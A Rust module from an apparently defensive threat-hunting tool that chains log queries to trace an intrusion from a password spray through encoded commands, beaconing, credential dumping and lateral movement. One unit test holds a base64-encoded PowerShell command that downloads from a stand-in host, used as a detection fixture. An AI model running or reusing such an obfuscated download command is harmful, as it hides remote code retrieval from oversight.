//! The chain of questions: each takes its values from the answers before it.

use std::collections::BTreeSet;

use chrono::{DateTime, TimeDelta, Utc};
use huntbook_drivers::{Cancel, Column};
use huntbook_intel::{IndicatorKind, extract};
use huntbook_kql_syntax::quote_name;
use huntbook_queries::{Arguments, Value, parse_time};

use crate::hunt::questions::{self, Asks, Question};
use crate::hunt::{Findings, HuntOptions, Step};
use crate::rows::texts;
use crate::{HuntbookError, QueryProvider};

/// What an account does this long after its credentials were used belongs to the use.
const AFTERWARDS: TimeDelta = TimeDelta::minutes(30);

/// Asks all questions; those about nothing (no host was found, say) are left out.
pub(crate) fn run(
    options: &HuntOptions,
    cancel: &Cancel,
    tell: &mut dyn FnMut(&str),
) -> Result<(Findings, Vec<Step>), HuntbookError> {
    tell("opening the logs");
    let mut sentinel = QueryProvider::new("MSSentinel")?;
    sentinel.connect_local(&options.logs)?;
    let defender = sentinel.beside("M365D")?;
    let asking = Asking { sentinel, defender, now: options.now, cancel, tell, steps: Vec::new() };
    let range = asking.range(options)?;
    let mut story = Story { asking, range, findings: Findings::default() };
    let signed_in = story.the_way_in()?;
    let hidden = story.the_foothold(signed_in)?;
    story.the_movement(&hidden)?;
    story.the_aftermath(&hidden)?;
    Ok((story.findings, story.asking.steps))
}

/// What the hidden commands gave away.
struct Hidden {
    since: DateTime<Utc>,
    /// Devices that talked to the domains, in order of time.
    talkers: Vec<String>,
}

struct Story<'a> {
    asking: Asking<'a>,
    range: Range,
    findings: Findings,
}

impl Story<'_> {
    /// From the spray to the VPN; returns when the intruder first signed in.
    fn the_way_in(&mut self) -> Result<DateTime<Utc>, HuntbookError> {
        let Self { asking, range, findings } = self;
        let start = range.start;
        let sprays = asking.ask(questions::SPRAY, &[range.since(start)])?;
        for [address, successes] in sprays.rows(["IPAddress", "Successes"])? {
            if successes != "0" {
                push(&mut findings.attacker_addresses, address);
            }
        }
        let from_there = range.each(start, "ip_address", &findings.attacker_addresses);
        let mut signed_in = start;
        if let Some(sign_ins) = asking.ask_each(questions::SIGN_INS, &from_there)? {
            findings.accounts.extend(sign_ins.distinct("UserPrincipalName")?);
            signed_in = earliest(&sign_ins.texts("FirstSeen")?).unwrap_or(start);
        }
        asking.ask_each(questions::MAILBOX, &from_there)?;
        let as_them = range.each(signed_in, "account_name", &findings.accounts);
        asking.ask_each(questions::DIRECTORY, &as_them)?;
        asking.ask_each(questions::VPN, &from_there)?;
        Ok(signed_in)
    }

    /// From the hidden commands to the domains that they talked to.
    fn the_foothold(&mut self, signed_in: DateTime<Utc>) -> Result<Hidden, HuntbookError> {
        let intruders = self.intruders();
        let Self { asking, range, findings } = self;
        let hidden = asking.ask(questions::HIDDEN_COMMANDS, &[range.since(signed_in)])?;
        let mut since = None;
        let mut named: Vec<String> = Vec::new();
        for [time, host, user, command] in
            hidden.rows(["TimeGenerated", "Computer", "SubjectUserName", "CommandLine"])?
        {
            if intruders.contains(&short_name(&user)) {
                since = since.or_else(|| moment(&time));
                push(&mut findings.hosts, host.to_lowercase());
                for domain in domains(&command) {
                    push(&mut named, domain);
                }
            }
        }
        let since = since.unwrap_or(signed_in);
        let mut talkers = Vec::new();
        for domain in &named {
            let asked = range.each(since, "domain", std::slice::from_ref(domain));
            let Some(beacons) = asking.ask_each(questions::BEACONS, &asked)? else { continue };
            for [device, address] in beacons.rows(["DeviceName", "RemoteIP"])? {
                push(&mut findings.domains, domain.clone());
                push(&mut findings.domain_addresses, address);
                push(&mut talkers, device.to_lowercase());
            }
        }
        Ok(Hidden { since, talkers })
    }

    /// From the credential dump to the hosts that the stolen account reached.
    fn the_movement(&mut self, hidden: &Hidden) -> Result<(), HuntbookError> {
        let names = self.intruders();
        let Self { asking, range, findings } = self;
        let on_first_hosts = range.each(hidden.since, "host_name", &findings.hosts);
        asking.ask_each(questions::CREDENTIAL_DUMP, &on_first_hosts)?;
        let mut uses = Vec::new();
        let mut servers = Vec::new();
        if let Some(used) = asking.ask_each(questions::EXPLICIT_CREDENTIALS, &on_first_hosts)? {
            let columns = ["TimeGenerated", "SubjectUserName", "TargetAccount", "TargetServerName"];
            for [time, subject, target, server] in used.rows(columns)? {
                if names.contains(&short_name(&subject)) && !names.contains(&short_name(&target)) {
                    uses.push(time);
                    push(&mut findings.service_accounts, target);
                    push(&mut servers, server.to_lowercase());
                }
            }
        }
        let (Some(first), Some(last)) = (earliest(&uses), latest(&uses)) else { return Ok(()) };
        let while_used = Range { start: first, end: range.end.min(last + AFTERWARDS) };
        let as_them = while_used.each(first, "account_name", &findings.service_accounts);
        if let Some(logons) = asking.ask_each(questions::LATERAL_LOGONS, &as_them)? {
            for computer in logons.texts("Computer")? {
                let computer = computer.to_lowercase();
                if servers.iter().any(|server| is_host(&computer, server)) {
                    push(&mut findings.hosts, computer);
                }
            }
        }
        for talker in &hidden.talkers {
            push(&mut findings.hosts, talker.clone());
        }
        Ok(())
    }

    /// What was left behind, and what left the company.
    fn the_aftermath(&mut self, hidden: &Hidden) -> Result<(), HuntbookError> {
        let Self { asking, range, findings } = self;
        let on_hosts = range.each(hidden.since, "host_name", &findings.hosts);
        for question in questions::OF_EACH_HOST {
            asking.ask_each(*question, &on_hosts)?;
        }
        asking.ask(questions::UPLOADS, &[range.since(hidden.since)])?;
        let to_them = range.each(range.start, "domain", &findings.domains);
        asking.ask_each(questions::LOOKUPS, &to_them)?;
        Ok(())
    }

    /// The short names of the accounts lost.
    fn intruders(&self) -> BTreeSet<String> {
        self.findings.accounts.iter().map(|account| short_name(account)).collect()
    }
}

/// Two catalogues on the same logs, and what was asked of them.
struct Asking<'a> {
    sentinel: QueryProvider,
    defender: QueryProvider,
    now: DateTime<Utc>,
    cancel: &'a Cancel,
    tell: &'a mut dyn FnMut(&str),
    steps: Vec<Step>,
}

impl Asking<'_> {
    /// Runs the question for each set of arguments; the rows of all runs are one answer. `None` where there
    /// is nothing to ask about.
    fn ask_each(
        &mut self,
        question: Question,
        runs: &[Arguments],
    ) -> Result<Option<Step>, HuntbookError> {
        if runs.is_empty() { Ok(None) } else { self.ask(question, runs).map(Some) }
    }

    fn ask(&mut self, question: Question, runs: &[Arguments]) -> Result<Step, HuntbookError> {
        (self.tell)(question.title);
        let provider = match question.asks {
            Asks::Sentinel => &self.sentinel,
            Asks::Defender => &self.defender,
        };
        let (first, rest) = runs.split_first().expect("a question is asked about something");
        let mut result = provider.run(question.query, first, self.now, self.cancel)?;
        for arguments in rest {
            let more = provider.run(question.query, arguments, self.now, self.cancel)?;
            result.batches.extend(more.batches);
        }
        let step = Step {
            slug: question.slug,
            title: question.title,
            reason: question.reason,
            query: question.query,
            techniques: provider.get(question.query)?.techniques.clone(),
            result,
        };
        self.steps.push(step.clone());
        Ok(step)
    }

    /// From the first event to the last, over every table that has a time.
    fn range(&self, options: &HuntOptions) -> Result<Range, HuntbookError> {
        if let (Some(start), Some(end)) = (options.start, options.end) {
            return Ok(Range { start, end });
        }
        let mut times = Vec::new();
        for table in self.sentinel.schema()?.tables {
            let is_time =
                |column: &Column| column.name == "TimeGenerated" && column.kind == "datetime";
            if table.columns.iter().any(is_time) {
                let bounds = "summarize First = min(TimeGenerated), Last = max(TimeGenerated)";
                let text = format!("{} | {bounds}", quote_name(&table.name));
                let found = self.sentinel.exec(&text, self.now, self.cancel)?;
                for column in ["First", "Last"] {
                    times.extend(texts(&found.schema, &found.batches, column)?);
                }
            }
        }
        let start = options.start.or_else(|| earliest(&times));
        let end = options.end.or_else(|| latest(&times));
        start.zip(end).map(|(start, end)| Range { start, end }).ok_or_else(|| {
            HuntbookError::Config {
                message: "no table in the logs has a `TimeGenerated` to say when things happened"
                    .into(),
                hints: vec!["name the time range with `--start` and `--end`".into()],
            }
        })
    }
}

/// A range of time, both ends included.
#[derive(Debug, Clone, Copy)]
struct Range {
    start: DateTime<Utc>,
    end: DateTime<Utc>,
}

impl Range {
    /// Arguments for the part of the range from `start` on.
    fn since(&self, start: DateTime<Utc>) -> Arguments {
        Arguments::from([
            ("start".to_owned(), Value::Datetime(start)),
            ("end".to_owned(), Value::Datetime(self.end)),
        ])
    }

    /// The same for each of `values` as the parameter `name`.
    fn each(&self, start: DateTime<Utc>, name: &str, values: &[String]) -> Vec<Arguments> {
        values
            .iter()
            .map(|value| {
                let mut arguments = self.since(start);
                arguments.insert(name.to_owned(), Value::Text(value.clone()));
                arguments
            })
            .collect()
    }
}

/// Adds `value` unless it is there already or says nothing.
fn push(values: &mut Vec<String>, value: String) {
    if !value.is_empty() && value != "-" && !values.contains(&value) {
        values.push(value);
    }
}

/// `ada.king` of `CONTOSO\ada.king` and `ada.king@contoso.com`, lower case.
fn short_name(account: &str) -> String {
    let name = account.rsplit('\\').next().unwrap_or(account);
    name.split('@').next().unwrap_or(name).to_lowercase()
}

/// Whether `computer` is the host that `name` names, in full or in short.
fn is_host(computer: &str, name: &str) -> bool {
    computer == name || computer.strip_prefix(name).is_some_and(|rest| rest.starts_with('.'))
}

/// The domains that a command line names, encoded or not, alone or in a URL.
fn domains(command: &str) -> Vec<String> {
    let found = extract(command).into_iter().map(|found| found.indicator);
    found
        .filter_map(|indicator| match indicator.kind {
            IndicatorKind::Domain => Some(indicator.value),
            IndicatorKind::Url => indicator
                .host()
                .filter(|host| host.kind == IndicatorKind::Domain)
                .map(|host| host.value),
            _ => None,
        })
        .collect()
}

/// The moment that a cell shows; cells carry absolute times, so the clock does not matter.
fn moment(text: &str) -> Option<DateTime<Utc>> {
    parse_time(text, DateTime::UNIX_EPOCH).ok()
}

fn earliest(times: &[String]) -> Option<DateTime<Utc>> {
    times.iter().filter_map(|time| moment(time)).min()
}

fn latest(times: &[String]) -> Option<DateTime<Utc>> {
    times.iter().filter_map(|time| moment(time)).max()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_person_has_one_short_name() {
        for spelling in ["CONTOSO\\Ada.King", "ada.king@contoso.com", "ada.king"] {
            assert_eq!(short_name(spelling), "ada.king");
        }
    }

    #[test]
    fn a_short_host_name_is_not_the_beginning_of_another() {
        assert!(is_host("srv-1.contoso.com", "srv-1"));
        assert!(!is_host("srv-12.contoso.com", "srv-1"));
    }

    #[test]
    fn an_encoded_command_gives_away_its_domain() {
        // "iwr https://amber-otter.example.net/a" in UTF-16LE, base64.
        let hidden = "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYQBtAGIAZQByAC0AbwB0AHQAZQByAC4AZQB4AGEAbQBwAGwAZQAuAG4AZQB0AC8AYQA=";
        assert!(
            domains(&format!("powershell.exe -EncodedCommand {hidden}"))
                .contains(&"amber-otter.example.net".to_owned())
        );
    }
}
